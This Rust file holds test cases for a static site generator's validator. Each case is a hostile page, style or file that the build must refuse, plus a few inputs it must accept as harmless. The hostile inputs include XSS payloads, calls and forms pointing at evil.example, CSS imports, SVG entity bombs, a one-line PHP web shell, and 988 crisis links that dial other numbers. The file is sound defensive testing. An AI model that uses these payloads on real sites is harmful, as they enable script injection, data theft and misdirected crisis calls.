//! Markup, styles and template language where a page's words belong.

use crate::cases::{Case, harmless, page, page_with, refused};
use crate::runner::Scratch;

fn style(scratch: &Scratch, css: &str) {
    scratch.write("site.toml", "title = \"A small site\"\nleave_out = [\"*\"]\ntheme = \"own\"\n");
    scratch.write("themes/own/css/zz.css", css);
}

fn drawing(scratch: &Scratch, inside: &str) {
    let svg =
        format!("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\">{inside}</svg>");
    scratch.write("static/x.svg", svg);
}

pub(crate) const CASES: &[Case] = &[
    refused("raw HTML with a script", &["E404"], |site| {
        page(site, "<script>fetch('https://evil.example/')</script>");
    }),
    refused("raw HTML with a script from elsewhere", &["E404"], |site| {
        page(site, "<p>Hello</p>\n<script src=\"https://evil.example/x.js\"></script>");
    }),
    refused("an event handler in raw HTML", &["E404"], |site| {
        page(site, "A word <b onclick=\"alert(1)\">to press</b>.");
    }),
    refused(
        "an event handler behind a tab, in capitals, without quotation marks",
        &["E404"],
        |site| {
            page(site, "Hello <b\tOnPointerOver=alert(1)>you</b>.");
        },
    ),
    refused("a `javascript:` link in raw HTML", &["E404"], |site| {
        page(site, "Press <a href=\"javascript:alert(1)\">here</a>.");
    }),
    refused(
        "a `javascript:` link in raw HTML, written with entities and tabs",
        &["E404"],
        |site| {
            page(site, "Press <a href=\"&#106;ava&Tab;script:alert(1)\">here</a>.");
        },
    ),
    refused("a `javascript:` link in Markdown", &["E404"], |site| {
        page(site, "Press [here](javascript:alert(1)).");
    }),
    refused("a `vbscript:` link in Markdown, as an automatic link", &["E404"], |site| {
        page(site, "Press <vbscript:alert(1)>.");
    }),
    refused("a `data:` link in Markdown", &["E405"], |site| {
        page(site, "Press [here](data:text/html,<script>alert(1)</script>).");
    }),
    refused("a `data:` picture in Markdown", &["E403"], |site| {
        page(site, "![A picture](data:image/svg+xml;base64,PHN2Zy8+)");
    }),
    refused("a `data:` picture in raw HTML", &["E403"], |site| {
        page(site, "<img alt=\"\" src=\"data:image/png;base64,AAAA\">");
    }),
    refused("a picture from elsewhere in Markdown", &["E403"], |site| {
        page(site, "![A picture](https://evil.example/count.gif)");
    }),
    refused("`<base>`", &["E405"], |site| page(site, "<base href=\"https://evil.example/\">")),
    refused("`<meta http-equiv=refresh>`", &["E405"], |site| {
        page(site, "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">");
    }),
    refused("a second content policy", &["E402"], |site| {
        page(site, "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">");
    }),
    refused("a frame", &["E405"], |site| {
        page(site, "<iframe src=\"https://evil.example/\" title=\"x\"></iframe>");
    }),
    refused("a frame with its page inside the attribute", &["E404", "E405"], |site| {
        page(
            site,
            "<iframe srcdoc=\"<script>alert(1)</script>\" title=\"x\"></iframe><script>1</script>",
        );
    }),
    refused("an object and an embed", &["E405"], |site| {
        page(site, "<object data=\"x.swf\"></object><embed src=\"x.swf\">");
    }),
    refused("a form that sends", &["E406"], |site| {
        page(
            site,
            "<form action=\"https://evil.example/\"><label>Your name <input name=\"n\"></label><button>Send</button></form>",
        );
    }),
    refused("a style attribute and a style element", &["E405"], |site| {
        page(
            site,
            "<p style=\"background:url(//evil.example/)\">Hello</p><style>p{color:red}</style>",
        );
    }),
    refused("`ping` on a link", &["E405"], |site| {
        page(site, "<a href=\"../tonight/index.html\" ping=\"https://evil.example/\">Tonight</a>");
    }),
    refused("a prefetch through a link element", &["E405"], |site| {
        page(site, "<link rel=\"prefetch\" href=\"https://evil.example/\">");
    }),
    refused("a comment that browsers end earlier than other programs", &["E404"], |site| {
        page(site, "<!--><script>alert(1)</script>-->");
    }),
    refused("a text field that swallows the rest of the page", &["E407"], |site| {
        page(site, "<label>x <textarea></label>");
    }),
    refused("a picture from elsewhere behind parentheses in a `srcset`", &["E403"], |site| {
        site.write("static/a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
        page(
            site,
            "<img alt=\"\" src=\"../a.svg\" srcset=\"../a.svg (() , https://evil.example/x.png 2x\">",
        );
    }),
    refused("a shared picture from elsewhere, named in a list of words", &["E403"], |site| {
        page(
            site,
            "<meta property=\"x og:image\" name=\"y\" content=\"https://evil.example/x.png\">\n\
             <meta property=\"x\" name=\"twitter:image\" content=\"https://evil.example/y.png\">",
        );
    }),
    refused("drawing in the page with script", &["E404"], |site| {
        page(site, "<svg aria-hidden=\"true\"><script>alert(1)</script></svg>");
    }),
    refused("drawing in the page with foreignObject", &["E405"], |site| {
        page(site, "<svg aria-hidden=\"true\"><foreignObject></foreignObject></svg>");
    }),
    refused("drawing in the page that animates a link into script", &["E405"], |site| {
        page(
            site,
            "<svg><a href=\"#main\"><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text>x</text></a></svg>",
        );
    }),
    refused("drawing in `static` with script", &["E404"], |site| {
        drawing(site, "<script>alert(1)</script>")
    }),
    refused("drawing in `static` with foreignObject", &["E405"], |site| {
        drawing(
            site,
            "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"/></foreignObject>",
        );
    }),
    refused("drawing in `static` with an event handler", &["E404"], |site| {
        drawing(site, "<g onload=\"alert(1)\"/>");
    }),
    refused("drawing in `static` that loads another drawing", &["E403"], |site| {
        drawing(site, "<use href=\"https://evil.example/x.svg#a\"/>");
    }),
    refused("drawing in `static` with an entity bomb", &["E405"], |site| {
        site.write(
            "static/x.svg",
            "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&b;</text></svg>",
        );
    }),
    refused(
        "drawing in `static` with an entity behind a `>` in its document type",
        &["E405"],
        |site| {
            site.write(
            "static/x.svg",
            "<!DOCTYPE svg SYSTEM \"a>\" [ <!ENTITY s \"&#60;script>1&#60;/script>\"> ]><svg xmlns=\"http://www.w3.org/2000/svg\">&s;</svg>",
        );
        },
    ),
    refused(
        "drawing in `static` whose comment ends later in XML than in HTML",
        &["E405"],
        |site| {
            drawing(site, "<!--> <a b=\"--> <script>alert(1)</script> \"/>");
        },
    ),
    refused("a feed in `static` with a frame", &["E405"], |site| {
        site.write(
            "static/feed.xml",
            "<rss><iframe xmlns=\"http://www.w3.org/1999/xhtml\" srcdoc=\"&lt;script>1&lt;/script>\"/></rss>",
        );
    }),
    refused("a feed in `static` that defines a script as a word", &["E405"], |site| {
        site.write(
            "static/x.rdf",
            "<!DOCTYPE x [<!ENTITY s \"&#60;script xmlns='http://www.w3.org/1999/xhtml'>1&#60;/script>\">]><x>&s;</x>",
        );
    }),
    harmless("a feed in `static` that leads elsewhere", |site| {
        site.write(
            "static/feed.xml",
            "<rss><link>https://example.org/</link><x><![CDATA[<p>1 < 2</p>]]></x></rss>",
        );
    }),
    refused("the theme's icon with script", &["E404"], |site| {
        style(site, "p{margin:0}");
        site.write(
            "themes/own/icon.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>",
        );
    }),
    refused("a page of one's own in `static`", &["E405"], |site| {
        site.write("static/x.html", "<script>alert(1)</script>");
    }),
    refused(
        "a packed page beside a page, which servers would send in its place",
        &["E405"],
        |site| {
            site.write("static/index.html.gz", "x");
            site.write("static/tonight/index.html.br", "x");
        },
    ),
    refused("a program that a server would run", &["E405"], |site| {
        site.write("static/x.php", "<?php system($_GET['c']);");
    }),
    refused("a style with a foreign `url()`", &["E403"], |site| {
        style(site, "p{background:url(https://evil.example/x.png)}");
    }),
    refused("a style with a foreign `url()` written with escapes", &["E403"], |site| {
        style(site, "p{background:\\75 r\\6c(//evil.example/x.png)}");
    }),
    refused(
        "a style with a foreign `url()` behind a comment in a namespace's name",
        &["E403"],
        |site| {
            style(site, "@namespace \"a;/*\"; p{background:url(https://evil.example/x.png)} /* */");
        },
    ),
    refused(
        "a style in `static` with a foreign `url()` behind an escaped line end",
        &["E403"],
        |site| {
            let css = "p.x{content:\"\\\r\n\"; background:url(https://evil.example/x.png)}";
            site.write("static/x.css", css);
        },
    ),
    refused("a style with `@import`", &["E403"], |site| {
        style(site, "@import \"https://evil.example/x.css\";");
    }),
    refused("a style with `@font-face`", &["E403"], |site| {
        style(site, "@font-face{font-family:x;src:url(https://evil.example/x.woff2)}");
    }),
    refused("a style in `static` with `@import`", &["E403"], |site| {
        site.write("static/x.css", "@\\69mport '//evil.example/x.css';");
    }),
    harmless("template language in a title", |site| {
        site.write(
            "content/en/x.md",
            "+++\ntitle = \"{% include 'site.toml' %}<script>alert(1)</script>\"\ndescription = \"What this page answers, said in one plain sentence.\"\n+++\n\nText.\n",
        );
    }),
    refused("template language as a call in a title", &["E121", "E407"], |site| {
        site.write(
            "content/en/x.md",
            "+++\ntitle = \"{{ config(x=1) }}\"\ndescription = \"What this page answers, said in one plain sentence.\"\n+++\n\nText.\n",
        );
    }),
    refused("template language in a page's text", &["E122"], |site| {
        page(site, "{{ site.title | safe }}");
    }),
    harmless("template statements in a page's text", |site| {
        page(site, "{% set x = 1 %}{% include \"page.html\" %}{# a note #}");
    }),
    harmless("markup in every setting that is text", |site| {
        page_with(
            site,
            "reviewed_by = \"<script>alert(1)</script>\"\n[extra]\nnav = \"\\\"><img src=x onerror=alert(1)>\"",
            "Text.",
        );
    }),
    refused("markup and quotation marks in a shortcode's argument", &["E123"], |site| {
        page(site, "{{ fact(id=\"\\\"><script>alert(1)</script>\") }}");
    }),
    harmless("markup in alerts, tables, pictures, headings and their ids", |site| {
        site.write("static/x.png", "x");
        page(
            site,
            "## A \"quoted\" & <kbd>key</kbd> heading {#a}\n\n> [!NOTE]\n> `<script>alert(1)</script>`\n\n| `<b onclick=x>` | \"\\|\" |\n|---|---|\n| a | b |\n\n![\\\"><script>alert(1)</script>](/x.png \"'\\\"><b>\")",
        );
    }),
    harmless("NUL and other control characters in a title and a text", |site| {
        site.write(
            "content/en/x.md",
            "+++\ntitle = \"A\\u0000B\\u001B[31mC\"\ndescription = \"What this page answers, said in one plain sentence.\"\n+++\n\nText \0 and \u{1b}[31m.\n",
        );
    }),
    harmless("headings that begin like the ids of sources, notes and questions", |site| {
        page(site, "## Q and A\n\n## Note to parents\n\n## Source 1\n\n## Cite 1\n\n## Main");
    }),
    refused("letters that turn the reading direction, around a number", &["E405"], |site| {
        page(site, "Call \u{202e}889\u{202c} or &#x202e;119&#x202c;.");
    }),
    refused("an element that turns the reading direction", &["E405"], |site| {
        page(site, "Call <bdo dir=\"rtl\">889</bdo>.");
    }),
    refused("a link that says 988 and dials another number", &["E414"], |site| {
        page(site, "Call [988](tel:+19005550100) or text [988](sms:989).");
    }),
    refused("a link to 988 that tells screen readers another number", &["E414"], |site| {
        page(
            site,
            "<p>Call <a href=\"tel:988\" aria-label=\"Call 555-0100\">988</a>.</p>\n\n\
             Call [988](tel:988 \"Call 555-0100\").",
        );
    }),
    refused("a link that says 988 in other digits and dials another number", &["E414"], |site| {
        page(site, "Call [\u{ff19}\u{ff18}\u{ff18}](tel:989) or [9\u{200b}8\u{ad}8](tel:989).");
    }),
    refused("control characters in names that a report repeats", &["E123"], |site| {
        page(site, "{{ fact(id=\"\u{1b}]0;owned\u{7}\u{1b}[2J\") }}");
    }),
    refused(
        "a title that would end the page's data for search engines",
        &["E404", "E407"],
        |site| {
            page(site, "</script><script>alert(1)</script>");
        },
    ),
    refused("the end of a script in a title", &["E156", "E404", "E407"], |site| {
        site.write(
            "content/en/x.md",
            "+++\ntitle = \"</script><!--<script>\"\ndescription = \"</script><script>alert(1)</script> said in one plain sentence.\"\n+++\n\nText.\n",
        );
    }),
];
